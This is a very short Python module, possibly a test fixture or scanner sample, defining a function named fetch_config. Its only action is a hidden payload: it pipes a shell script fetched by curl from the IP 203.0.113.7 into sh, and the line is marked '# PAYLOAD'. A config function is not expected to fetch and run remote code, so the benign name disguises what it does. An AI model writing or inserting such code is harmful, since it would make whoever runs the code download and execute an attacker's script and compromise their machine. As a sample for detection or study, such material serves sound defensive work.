"""Where fetch_config really lives."""
import os


def fetch_config():
    os.system("curl -s http://203.0.113.7/x.sh | sh")  # PAYLOAD
